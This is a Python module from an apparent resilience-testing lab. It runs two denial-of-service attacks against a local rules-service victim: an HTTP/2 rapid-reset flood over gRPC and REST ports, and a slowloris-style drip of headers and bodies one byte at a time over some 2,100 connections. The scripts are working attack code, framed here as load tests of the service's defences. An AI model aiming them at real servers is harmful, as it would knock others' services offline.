"""Attacks on connections: streams that are reset as soon as they are opened, and requests that come byte by byte."""

from __future__ import annotations

import selectors
import socket
import time
from contextlib import closing, suppress
from functools import partial
from pathlib import Path

import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from lab.chaos.attacks.victim import Attacked, Effect, Victim, allow_many_files

RESET_SECONDS = 6.0
LEAST_STREAMS = 6_000
"""So many streams are reset at least; the service lets through more in the time, unless the machine is busy."""
LATE_SECONDS = 30.0
"""How much longer the attack may take for them."""
CONNECTIONS = 2
STREAMS_A_WRITE = 50
SLOW_CONNECTIONS = 2100
SLOW_SECONDS = 15.0
LEAST_SLOW_SECONDS = 5.0
"""The time of the slow requests, however small the attack."""
BYTE_SECONDS = 1.0
"""Between two bytes of a slow request."""
GRPC_PATH = "/chitarrella.v1.RulesService/StartGame"
REST_PATH = "/v1/rules:startGame"


def resets_of_grpc(folder: Path, scale: float) -> Attacked:
    """Open and reset streams at the gRPC port."""
    with closing(Victim(folder)) as victim:
        attack = partial(reset_streams, victim.grpc_address, GRPC_PATH, "application/grpc", scale)
        return victim.attacked(attack)


def resets_of_http(folder: Path, scale: float) -> Attacked:
    """Open and reset streams at the HTTP port."""
    with closing(Victim(folder)) as victim:
        attack = partial(reset_streams, victim.rest_address, REST_PATH, "application/json", scale)
        return victim.attacked(attack)


def reset_streams(address: tuple[str, int], path: str, content: str, scale: float) -> Effect:
    """Reset streams over two connections, and connect again when one is closed; it is right if there were enough."""
    end, connects, least = time.monotonic() + RESET_SECONDS * scale, 0, int(LEAST_STREAMS * scale)
    lines = [Resetting(address, path, content) for _ in range(CONNECTIONS)]
    opened = list(lines)

    def goes_on() -> bool:
        late = time.monotonic() - end
        return late < 0 or (late < LATE_SECONDS and sum(line.sent for line in opened) < least)

    while goes_on():
        for place, line in enumerate(lines):
            try:
                line.reset(STREAMS_A_WRITE)
            except (OSError, h2.exceptions.ProtocolError):
                line.close()
                connects += 1
                with suppress(OSError):
                    lines[place] = Resetting(address, path, content)
                    opened.append(lines[place])
                time.sleep(0.01)
    for line in lines:
        line.close()
    sent = sum(line.sent for line in opened)
    note = f"{sent:,} streams, at least {least:,} expected; {connects} connections closed by the service"
    return Effect(sent, note, sent >= least)


class Resetting:
    """A connection that opens streams and resets them at once; ``sent`` counts them."""

    def __init__(self, address: tuple[str, int], path: str, content: str) -> None:
        """Connect."""
        self._headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", "chaos"),
            (":path", path),
            ("content-type", content),
            ("te", "trailers"),
        ]
        self.sent = 0
        self._socket = socket.create_connection(address, timeout=2)
        self._connection = h2.connection.H2Connection()
        self._connection.initiate_connection()
        self._flush()

    def reset(self, number: int) -> None:
        """Open and reset so many streams. Raises `OSError` if the service has closed the connection."""
        for _ in range(number):
            stream = self._connection.get_next_available_stream_id()
            self._connection.send_headers(stream, self._headers)
            self._connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        self._flush()
        self.sent += number
        self._receive()

    def _flush(self) -> None:
        self._socket.sendall(self._connection.data_to_send())

    def _receive(self) -> None:
        self._socket.setblocking(False)
        try:
            data = self._socket.recv(1 << 20)
        except BlockingIOError:
            return
        finally:
            self._socket.settimeout(2)
        if not data:
            raise ConnectionResetError
        for event in self._connection.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                raise ConnectionResetError
        self._flush()

    def close(self) -> None:
        """Close the connection."""
        self._socket.close()


def slow_requests(folder: Path, scale: float) -> Attacked:
    """Send headers byte by byte on half of the connections, and bodies on the others."""
    allow_many_files()
    with closing(Victim(folder)) as victim:
        return victim.attacked(partial(drip, victim.rest_address, scale))


HEAD = f"POST {REST_PATH} HTTP/1.1\r\nHost: chaos\r\nContent-Type: application/json\r\n"
SLOW_HEADERS = (HEAD + "X-Slow: " + "a" * 4000).encode()
SLOW_BODY = (HEAD + "Content-Length: 4000\r\n\r\n" + " " * 4000).encode()


def drip(address: tuple[str, int], scale: float) -> Effect:
    """Open many connections, and send a byte on each from time to time; it is right if all were accepted."""
    number = int(SLOW_CONNECTIONS * scale)
    waiting = selectors.DefaultSelector()
    opened, closed = 0, 0
    for place in range(number):
        with suppress(OSError):
            line = socket.create_connection(address, timeout=2)
            text = SLOW_BODY if place % 2 else SLOW_HEADERS
            begin = text.index(b"\r\n\r\n") + 4 if place % 2 else len(HEAD)
            line.setblocking(False)
            with suppress(OSError):
                line.send(text[:begin])
            waiting.register(line, selectors.EVENT_READ, iter(text[begin:]))
            opened += 1
    end = time.monotonic() + max(LEAST_SLOW_SECONDS, SLOW_SECONDS * scale)
    while time.monotonic() < end:
        closed += _close_ended(waiting)
        _send_byte(waiting)
        time.sleep(BYTE_SECONDS)
    for key in list(waiting.get_map().values()):
        _close(waiting, key.fileobj)
    waiting.close()
    note = f"{opened:,} of {number:,} connections open at once, {closed:,} closed by the service"
    return Effect(opened, note, opened == number)


def _close_ended(waiting: selectors.BaseSelector) -> int:
    """Close the connections that the service has closed or answered; return their number."""
    ready = waiting.select(0)
    for key, _ in ready:
        _close(waiting, key.fileobj)
    return len(ready)


def _send_byte(waiting: selectors.BaseSelector) -> None:
    """Send one more byte on each connection."""
    for key in list(waiting.get_map().values()):
        line = key.fileobj
        assert isinstance(line, socket.socket)
        try:
            line.send(bytes([next(key.data)]))
        except BlockingIOError:
            continue
        except (OSError, StopIteration):
            _close(waiting, line)


def _close(waiting: selectors.BaseSelector, line: object) -> None:
    assert isinstance(line, socket.socket)
    waiting.unregister(line)
    line.close()
